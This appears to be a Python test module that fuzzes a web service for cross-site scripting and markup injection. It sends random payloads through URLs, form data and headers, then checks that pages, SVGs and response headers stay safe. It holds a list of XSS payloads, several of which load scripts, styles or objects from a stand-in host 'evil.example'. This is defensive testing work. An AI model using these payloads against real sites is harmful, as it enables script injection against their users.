"""Scripts and markup in everything that is shown again: pages, drawings, documents and headers."""

from collections.abc import Sequence
from html.parser import HTMLParser
from pathlib import Path
from random import Random
from urllib.parse import quote, quote_plus
from xml.etree import ElementTree as ET

import msgspec

from support.attacks.both_paths import BothPaths, both_paths
from support.snapshots import MORNING, station
from waypost.places.place import Address, Place

_ESCAPES = (
    *("", "", '"', "'", ">", '">', "'>", "-->", "]]>", '\\"', "&quot;>", "%22%3E", "`", "</title>", "</textarea>"),
    *(
        "</script>",
        "</style>",
        "</dd></dl>",
        "</a>",
        "\N{FULLWIDTH GREATER-THAN SIGN}",
        "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}",
    ),
)
_ATTACKS = (
    *("<script>alert(1)</script>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>"),
    *("<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>"),
    *(
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example>",
    ),
    *(" onmouseover=alert(1) x=", " autofocus onfocus=alert(1) x=", "javascript:alert(1)", "data:text/html,<script>"),
    *(
        "{{7*7}}",
        "${alert(1)}",
        "<!--",
        "<![CDATA[<script>",
        "<?xml version='1.0'?>",
        "&lt;script&gt;",
        "&#60;script&#62;",
    ),
    *(
        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "<math><mtext><script>",
        "<style>*{}</style>",
    ),
    *(
        "<link rel=stylesheet href=//evil.example>",
        "<object data=//evil.example>",
        "\\u003cscript\\u003e",
        "<plaintext>",
    ),
)
_DRAWN = {f"{{http://www.w3.org/2000/svg}}{tag}" for tag in ("svg", "path", "rect", "g", "title", "desc")}


def payload(dice: Random) -> str:
    """Short enough for a name, and without the signs that no title may have."""
    text = (
        dice.choice(_ESCAPES)
        + dice.choice(_ATTACKS)
        + dice.choice(("", "", dice.choice(_ESCAPES), dice.choice(_ATTACKS)))
    )
    if dice.random() < 0.3:
        text = "".join(dice.choice((letter.upper(), letter)) for letter in text)
    return text[:150]


def _place(number: int, text: str) -> Place:
    address = Address(street=text, town=text, region=text, postcode=text)
    told = {"name": text, "operator": text, "address": address, "categories": (text,)}
    return msgspec.structs.replace(station(number), country="DE", provider_updated_at=MORNING, **told)


def _get(address: str, *headers: str) -> bytes:
    given = () if any(line.startswith("Host:") for line in headers) else ("Host: localhost",)
    return "\r\n".join((f"GET {address} HTTP/1.1", *given, *headers, "", "")).encode("utf-8")


def _doors(number: int, text: str) -> Sequence[bytes]:
    """Requests that bring the text to a page in every way there is; place and link of this number have it in them."""
    inside, after = quote(text, safe=""), quote_plus(text)
    headed = text.encode("ascii", "ignore").decode()
    form = f"phrase={after}&text={after}"
    return (
        _get(f"/title-otter-{number}+"),
        _get(f"/target-otter-{number}+"),
        _get(f"/passed-otter?x={after}"),
        _get(f"/passed-otter?{inside}", f"User-Agent: {headed}", f"Referer: https://news.example/{headed}"),
        *(_get(f"/{inside}{form}") for form in ("", "+", ".svg", ".png")),
        _get(f"/-/report?phrase={after}"),
        _get(f"/v1/links/{inside}"),
        _get(f"/v1/links?q={after}&tag={after}"),
        _get(f"/collections/places/items/sim:{number}", "Accept: text/html"),
        _get(f"/collections/places/items/{inside}", "Accept: text/html"),
        _get(f"/collections/places/items?f=html&q={after}"),
        _get(f"/collections/places/items?f=html&limit=2&operator={after}"),
        _get(f"/collections/places/items?f=html&{inside}={after}"),
        *(
            _get(f"/{path}", f"Host: {headed}", "Accept: text/html")
            for path in ("", "collections", "title-otter-0.svg", "docs")
        ),
        _get("/collections/places/items?f=html&limit=2", f"Host: {headed}"),
        _get("/v1/places?limit=2", f"Host: {headed}"),
        _REPORT + f"Content-Length: {len(form)}\r\n\r\n{form}".encode(),
    )


_REPORT = b"POST /-/report HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"


class Shape(HTMLParser):
    """What a page is made of, whatever is said in it."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.tags: set[tuple[str, ...]] = set()
        self.marks = 0
        self.leads: list[str] = []
        self.feed(page.decode())
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.marks += 1
        self.tags.add((tag, *(name for name, _ in attrs)))
        self.leads += [value or "" for name, value in attrs if name in {"href", "src", "action"}]

    def handle_endtag(self, _tag: str) -> None:
        self.marks += 1

    def handle_decl(self, _decl: str) -> None:
        self.marks += 1


def _check(answer: bytes, tags: set[tuple[str, ...]], request: bytes) -> None:
    head, _, body = answer.partition(b"\r\n\r\n")
    about = f"{request!r}: {answer[:3000]!r}"
    named = dict(line.split(b": ", 1) for line in head.split(b"\r\n")[1:])
    assert named.keys() <= _HEADERS, about
    assert named[b"x-content-type-options"] == b"nosniff", about
    kind = named.get(b"content-type", b"").partition(b";")[0]
    if kind == b"text/html":
        shape = Shape(body)
        assert shape.tags <= tags, (shape.tags - tags, about)
        assert shape.marks == body.count(b"<"), about
        assert all(each.startswith(("/", "http://", "https://")) for each in shape.leads), about
        assert b"default-src 'none'" in named[b"content-security-policy"], about
        assert b"unsafe" not in head, about
    elif kind == b"image/svg+xml":
        for element in ET.fromstring(body).iter():
            assert element.tag in _DRAWN, about
            assert not any(name.startswith("on") or "href" in name for name in element.attrib), about
    else:
        assert kind in _NO_PAGES, about


# All that an answer to these requests may have: nobody adds one.
_HEADERS = {
    *(b"x-content-type-options", b"content-type", b"content-length", b"content-security-policy", b"cache-control"),
    *(b"etag", b"vary", b"location", b"referrer-policy", b"x-robots-tag", b"retry-after", b"allow"),
    *(b"access-control-allow-origin", b"access-control-expose-headers"),
}
_NO_PAGES = {
    *(b"application/json", b"application/problem+json", b"application/geo+json", b"application/x-ndjson"),
    *(b"text/plain", b"image/png", b""),
}


async def _make(both: BothPaths, texts: Sequence[str]) -> None:
    """A link for each text with it as its title, and one with it in its target, as far as a target may have it."""
    wishes = []
    for number, text in enumerate(texts):
        odd = quote(text, safe="<>\"'`{}$&=;:/*()!,")
        wishes += [
            {"target": "https://example.org/", "phrase": f"title-otter-{number}", "title": text},
            {"target": f"https://example.org/?{odd}#{odd}", "phrase": f"target-otter-{number}"},
        ]
    await both.service.send_lines(
        *wishes, {"target": "https://example.org/", "phrase": "passed-otter", "forward_query": True}
    )


async def markup(folder: Path, dice: Random, count: int) -> None:
    """A page with an attack in it is made of what a page with a harmless word is made of: the attack is text."""
    texts = ["harmless", *(payload(dice) for _ in range(count))]
    places = [_place(number, text) for number, text in enumerate(texts)]
    async with both_paths(folder, places=places) as both:
        await _make(both, texts)
        tags: set[tuple[str, ...]] = set()
        for request in _doors(0, texts[0]):
            head, _, body = (await both.answer(both.hot, request)).partition(b"\r\n\r\n")
            tags |= Shape(body).tags if b"content-type: text/html" in head else set()
        assert len(tags) > 20, tags
        for number, text in enumerate(texts[1:], 1):
            for request in _doors(number, text):
                _check(await both.answer(both.hot, request), tags, request)
